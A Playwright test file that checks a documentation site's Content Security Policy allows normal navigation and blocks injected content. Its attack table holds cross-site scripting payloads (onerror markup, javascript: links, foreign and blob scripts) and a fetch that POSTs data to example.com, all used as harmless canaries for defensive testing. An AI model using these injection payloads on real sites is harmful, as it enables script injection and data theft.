import {ROUTES} from '../routes';
import {openBox} from '../search/box';
import {expect, test} from '../support/test';
import {noteRefusals, refusals} from './refusals';

test.describe.configure({timeout: 120_000});

test.describe('under the content policy', () => {
  test('every page is reached from within the site', async ({openPage, siteUrl}) => {
    const page = await openPage('/toolhive/', {before: noteRefusals});
    for (const route of [...ROUTES, '/toolhive/']) {
      await page.evaluate((path) => {
        const link = document.createElement('a');
        link.href = path;
        // Links in page text are followed by the site; where a page has none, its navbar stands in.
        (document.querySelector('[data-content]') ?? document.body).append(link);
        link.click();
      }, route);
      await page.waitForURL(siteUrl + route);
      await page.locator('h1').first().waitFor();
    }
    expect(await refusals(page)).toEqual([]);
  });

  test('the parts of a page that answer do so', async ({openPage}) => {
    const page = await openPage('/toolhive/guides-cli/client-configuration', {
      before: noteRefusals,
      width: 390,
    });
    await page.getByRole('button', {name: 'Copy code'}).first().click();
    await page.getByRole('tab').nth(1).click();
    await page.getByRole('button', {name: 'Toggle navigation bar'}).click();
    await page.locator('.navbar-sidebar').waitFor();
    await page.locator('.navbar-sidebar button[class*="toggleButton"]').click();
    await page.getByRole('button', {name: 'Close navigation bar'}).click();
    const box = await openBox(page, 'secret');
    await box.options.first().waitFor();
    await page.keyboard.press('Enter');
    await page.waitForURL((url) => !url.pathname.endsWith('client-configuration'));
    await page.locator('h1').first().waitFor();
    expect(await refusals(page)).toEqual([]);
  });

  test('the not-found page, diagrams and the API reference are whole', async ({openPage}) => {
    for (const [path, part] of [
      ['/nowhere/at/all', 'h1'],
      ['/toolhive/', 'img[src*="diagrams"]:visible'],
      ['/toolhive/reference/api', '[data-api] details summary'],
    ] as const) {
      const page = await openPage(path, {
        before: noteRefusals,
        expected: path.startsWith('/nowhere') ? [/404/] : [],
      });
      await page.locator(part).first().click();
      expect(await refusals(page), path).toEqual([]);
    }
  });
});

/** Runs when a script that nobody allowed does. */
const CANARY = 'window.canary = true';

test.describe('the content policy refuses', () => {
  const expected = [/Content Security Policy|This document requires 'Trusted/];
  const ATTACKS: Readonly<Record<string, string>> = {
    'an inline script': `const s = document.createElement('script'); s.append('${CANARY}'); document.body.append(s)`,
    'an event handler': `document.body.setAttribute('onclick', '${CANARY}'); document.body.click()`,
    'a javascript: link': `const a = document.createElement('a'); a.href = 'javascript:${CANARY}'; document.body.append(a); a.click()`,
    'markup with an event handler': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${CANARY}">')`,
    'markup with a script': `document.body.append(document.createRange().createContextualFragment('<script>${CANARY}</' + 'script>'))`,
    'a frame with markup': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.canary = true</' + 'script>'; document.body.append(f)`,
    'a frame of another host': `const f = document.createElement('iframe'); f.src = 'https://example.com/'; document.body.append(f)`,
    'code in a string': `new Function('${CANARY}')()`,
    'a script of another host': `const s = document.createElement('script'); s.src = 'https://example.com/x.js'; document.body.append(s)`,
    'a script in a blob': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['${CANARY}'])); document.body.append(s)`,
    'a base address': `const b = document.createElement('base'); b.href = 'https://example.com/'; document.head.append(b)`,
    'a style element': `const s = document.createElement('style'); s.append('body { display: none }'); document.body.append(s)`,
    'data sent to another host': `void fetch('https://example.com/', {method: 'POST', body: 'x'}).catch(() => undefined)`,
  };

  test('whatever an injected text would try', async ({openPage}) => {
    const page = await openPage('/toolhive/', {before: noteRefusals, expected});
    for (const [name, attack] of Object.entries(ATTACKS)) {
      await page.evaluate(() => (window.refused = []));
      // From a timer, as an injected text would run: no policy binds what the debugger itself calls.
      await page.evaluate(
        `setTimeout(() => { try { ${attack} } catch (error) { window.refused.push(String(error)) } })`,
      );
      await expect.poll(() => refusals(page), {message: name}).not.toEqual([]);
    }
    expect(await page.evaluate(() => 'canary' in window)).toBe(false);
  });
});
